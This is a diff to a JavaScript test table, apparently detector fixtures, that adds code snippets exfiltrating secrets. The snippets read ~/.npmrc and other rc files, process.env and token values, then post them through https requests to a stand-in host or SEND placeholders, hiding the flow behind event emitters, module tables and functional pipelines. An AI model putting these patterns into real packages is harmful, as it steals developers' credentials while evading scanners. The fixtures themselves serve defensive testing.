@@ -20,6 +20,10 @@ const CHANNELS: readonly Row[] = [
     "const load=(n)=>require(n);const h=load('https');h.request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
   [
+    'one of two modules, by what is asked',
+    "const c=require(process.env.PLAIN?'http':'https');const r=c.request({host:'c.example',method:'POST'});READ;r.end(k)",
+  ],
+  [
     'a function that loads by the loader behind',
     "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
@@ -213,6 +217,47 @@ const CHANNELS: readonly Row[] = [
       'w.js': "const bus=require('./bus');bus.on('boot',({env})=>{SEND«JSON.stringify(env)»})",
       'bus.js': "module.exports=new (require('events'))()",
     },
+  ],
+  [
+    'an event of an object that calls it something else',
+    {
+      'index.js':
+        "const {bus}=require('./bus');require('./w');READ;const hit=/Token=(.+)/.exec(k);bus.publish('who',{value:hit[1]})",
+      'w.js': "const {bus}=require('./bus');bus.late('who',({value})=>{SEND«value»})",
+      'bus.js':
+        "const {EventEmitter}=require('events');exports.bus=new (class extends EventEmitter{publish(t,v){this.emit(t,v)} late(t,f){this.on(t,f)}})()",
+    },
+  ],
+  [
+    'what a parameter of a table keeps for its owner',
+    "class S{all={};set(n,v){this.all[n]=v}} const fill={e:(s)=>s.set('e',{env:{...process.env}})};class C{s=new S();constructor(){for(const n of Object.keys(fill))fill[n](this.s)} go(){SEND«JSON.stringify({all:this.s.all})»}} new C().go()",
+  ],
+  [
+    'a class of a module in a table',
+    '(()=>{var e={11:(e)=>{class T{constructor(){this.e=JSON.stringify(process.env)} all(){return {e:this.e}}} e.exports={T}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const {T}=r(11);SEND«new T().all()»})()})();',
+  ],
+  [
+    'a name that is made of each of a list',
+    "const fs=require('fs');const all=['tides','npm'].map((n)=>require('os').homedir()+'/.'+n+'rc');SEND«all.map((p)=>fs.readFileSync(p)).join()»",
+  ],
+  [
+    'functions one after the other, without a name for what goes through',
+    {
+      'index.js':
+        "import {readFile} from 'fs/promises';import {homedir} from 'os';import {pipe,map,filter} from './iter.js';import {send} from './send.js';function*places(){yield homedir()+'/.npmrc'} const read=(p)=>readFile(p,'utf8');const go=pipe(map(read),filter(Boolean),map((text)=>({text})),map(send));go(places())",
+      'send.js': 'export const send=(one)=>SEND«JSON.stringify(one)»',
+      'iter.js':
+        'const curry=(f)=>(...a)=>a.length>=f.length?f(...a):curry(f.bind(null,...a));export const pipe=(...fns)=>(x)=>fns.reduce((v,f)=>f(v),x);export const map=curry(async function*(f,s){for await(const x of s)yield await f(x)});export const filter=curry(async function*(f,s){for await(const x of s)if(f(x))yield x})',
+    },
+    { type: 'module' },
+  ],
+  [
+    'names one after the other, by a library',
+    "const R=require('ramda');const all=()=>process.env;const pack=(e)=>JSON.stringify(e);const send=(b)=>SEND«b»;const go=R.compose(send,pack,all);go()",
+  ],
+  [
+    'what goes through functions from the beginning',
+    "const {pipe}=require('remeda');pipe(Object.entries(process.env),(all)=>JSON.stringify(all),(b)=>SEND«b»)",
   ],
   [
     'the global object',
